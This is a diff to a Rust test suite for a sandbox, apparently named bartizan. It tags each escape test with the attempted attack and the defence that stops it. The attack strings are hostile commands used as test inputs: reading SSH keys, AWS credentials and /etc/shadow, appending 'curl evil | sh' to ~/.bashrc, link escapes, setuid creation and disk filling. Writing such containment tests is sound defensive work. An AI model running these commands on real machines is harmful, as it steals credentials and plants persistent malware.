@@ -6,6 +6,7 @@ use bartizan_sandbox::{Access, Reason, SyntheticFile, WorkspaceMode};
 use std::fs;
 use std::os::fd::AsFd;
 use std::os::unix::fs::PermissionsExt;
+use support::table::stopped;
 use support::{HOME, Place, exists, run};
 
 for_everyone! {
@@ -26,6 +27,7 @@ for_everyone! {
         let outcome = run(&spec).succeeded();
         assert_eq!(outcome.stdout, "hello from the host\n");
         assert!(outcome.stderr.matches("No such file").count() >= 5, "{outcome:#?}");
+        stopped("F01", "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc", "view: not in the new root", &outcome.stderr);
     }
 
     fn f02_a_sibling_project_is_not_there() {
@@ -34,6 +36,7 @@ for_everyone! {
         fs::write(place.path("other/.env"), "TOKEN=TOP-SECRET").unwrap();
         let outcome = place.run("cat ../other/.env; ls ..; ls -A ~ | wc -l; ls").succeeded();
         assert_eq!(outcome.stdout, "project\n0\nreadme.txt\n");
+        stopped("F02", "cat ../other/.env; ls ~", "view: only the workspace; a home of its own", &outcome.stderr);
     }
 
     fn f03_the_root_seen_through_proc_is_the_boxs_own() {
@@ -42,6 +45,7 @@ for_everyone! {
             .run("cat /proc/self/root/etc/shadow /proc/1/root/etc/shadow; ls /proc/self/root/root /proc/self/root/mnt; \
                   cat /proc/self/cwd/readme.txt; ls /proc/self/cwd/..; ls -d /proc/self/root/usr");
         assert_eq!(outcome.stdout, "hello from the host\nproject\n/proc/self/root/usr\n", "{outcome:#?}");
+        stopped("F03", "cat /proc/self/root/etc/shadow, /proc/1/root, ls /proc/self/cwd/..", "view: the root is the box's own", &outcome.stderr);
     }
 
     fn f05_the_system_is_read_only() {
@@ -54,6 +58,7 @@ for_everyone! {
         assert_eq!(outcome.stdout, "fine\nnull\n", "{outcome:#?}");
         assert!(outcome.stderr.contains("Read-only file system"), "{outcome:#?}");
         assert!(!exists("/usr/x".as_ref()) && !exists("/x".as_ref()));
+        stopped("F05", "touch, rm, chmod in /usr /etc / /dev /proc/sys", "read-only mounts; Landlock", &outcome.stderr);
     }
 
     fn f06_the_home_directory_is_the_boxs_own_and_empty() {
@@ -67,6 +72,7 @@ for_everyone! {
         spec.env.push(("HOME".into(), home.clone().into()));
         assert_eq!(run(&spec).succeeded().stdout, "curl evil | sh\n");
         assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "original\n");
+        stopped("F06", "echo 'curl evil | sh' >> ~/.bashrc", "view: the home directory is a tmpfs", &fs::read_to_string(home.join(".bashrc")).unwrap());
     }
 
     fn f07_writing_through_a_symlink_stays_in_the_box() {
@@ -79,6 +85,7 @@ for_everyone! {
         );
         assert_eq!(place.run(&script).succeeded().stdout, "x\n");
         assert_eq!(fs::read_to_string(place.path("victim")).unwrap(), "untouched");
+        stopped("F07", "ln -s of a host file, and write through it", "view: what the link names does not exist", &fs::read_to_string(place.path("victim")).unwrap());
     }
 
     fn f10_no_hard_link_reaches_out() {
@@ -90,6 +97,7 @@ for_everyone! {
         );
         let outcome = place.run(&script).succeeded();
         assert_eq!(outcome.stdout, "readme.txt\nhello from the host\n", "{outcome:#?}");
+        stopped("F10", "ln ~/.netrc h; ln /etc/passwd p; ln -P /proc/self/exe x", "view; links never cross mounts", &outcome.stderr);
     }
 
     fn f22_neither_setuid_nor_devices_come_about() {
@@ -110,6 +118,7 @@ for_everyone! {
             let mode = entry.unwrap().metadata().unwrap().permissions().mode();
             assert_eq!(mode & 0o6000, 0);
         }
+        stopped("F22", "chmod 4755, install -m 4755, mknod b/c, O_CREAT with 06755", "seccomp: no setuid mode, no device; nosuid, nodev", &"no setuid bit, no device, in the layer and on the host");
     }
 
     fn f23_the_disk_cannot_be_filled() {
@@ -129,6 +138,7 @@ for_everyone! {
         assert!(lines[1].parse::<u64>().unwrap() <= 32 << 20, "{outcome:#?}");
         assert_eq!(lines[2..], ["No space", "No space", "File too large", "ENOSPC True", "small"], "{outcome:#?}");
         assert_eq!(fs::read_dir(&place.workspace).unwrap().count(), 1);
+        stopped("F23", "dd, truncate -s 1T, 50,000 empty files", "tmpfs size and inode caps; RLIMIT_FSIZE", &outcome.stdout);
     }
 
     fn f24_nothing_of_one_run_is_seen_by_the_next() {
@@ -140,6 +150,7 @@ for_everyone! {
         let look = "ls -A /tmp /dev/shm ~ | grep -v : | grep -v '^$' | grep -vE '^(box|home)-'; ipcs -m | grep -c 0x; \
                     python3 -c 'import ctypes; l=ctypes.CDLL(None); print(l.mq_open(b\"/q\", 0))'";
         assert_eq!(place.run(look).succeeded().stdout, "0\n-1\n");
+        stopped("F24", "run A leaves files in /tmp, /dev/shm, ~, SysV and POSIX ipc; run B looks", "ipc and mount namespaces, private tmpfs", &"B finds no file, no segment, no queue");
     }
 
     fn f25_policy_and_certificates_of_ours_cannot_be_written() {
@@ -163,6 +174,7 @@ for_everyone! {
         ];
         let outcome = run(&spec).succeeded();
         assert_eq!(outcome.stdout, "{\"hooks\":1}\n{\"hooks\":1}\nmine\n", "{outcome:#?}");
+        stopped("F25", "write, remove, move our policy, settings, audit log", "view; pinned read-only mounts", &outcome.stderr);
     }
 
     fn f27_a_crash_leaves_no_core_and_calls_no_helper() {
@@ -173,6 +185,7 @@ for_everyone! {
         );
         // A core limit of 1 is the one value that keeps a core_pattern pipe from being started.
         assert_eq!(outcome.succeeded().stdout, "139\nreadme.txt\n(1, 1)\n");
+        stopped("F27", "ulimit -c unlimited; kill -SEGV", "RLIMIT_CORE of 1 that seccomp keeps", &"139, no core, limit still (1, 1)");
     }
 
     fn writes_land_in_the_upper_layer_and_nowhere_else() {
@@ -223,6 +236,7 @@ for_everyone! {
             assert_eq!(run(&spec).succeeded().stdout, "narrow\nnarrow\nx\n");
         }
         assert_eq!(fs::read_to_string(place.workspace.join(".bartizan/policy")).unwrap(), "narrow\n");
+        stopped("F11", "write, rename, remove .bartizan in the workspace, overlay and direct", "read-only mount on the path (EBUSY, EROFS)", &fs::read_to_string(place.workspace.join(".bartizan/policy")).unwrap());
     }
 
     fn a_readable_path_is_seen_at_its_own_place_and_stays_unwritable() {
@@ -264,6 +278,16 @@ fn a_program_that_is_not_there_is_named() {
     spec.program = "/usr/bin/no-such-program".into();
     let error = support::start(&spec).unwrap_err().to_string();
     assert!(error.contains("no-such-program") && error.contains("No such file"), "{error}");
+}
+
+#[test]
+fn a_file_beyond_the_limit_ends_the_program_and_the_reason_says_so() {
+    let place = Place::new();
+    let mut spec = place.spec("echo small > s && cat s; exec truncate -s 2M big");
+    spec.limits.file_size = 1 << 20;
+    let outcome = run(&spec);
+    assert_eq!((outcome.stdout.as_str(), outcome.exit.reason), ("small\n", Reason::FileSizeLimit));
+    assert_eq!(outcome.exit.code(), 153);
 }
 
 #[test]
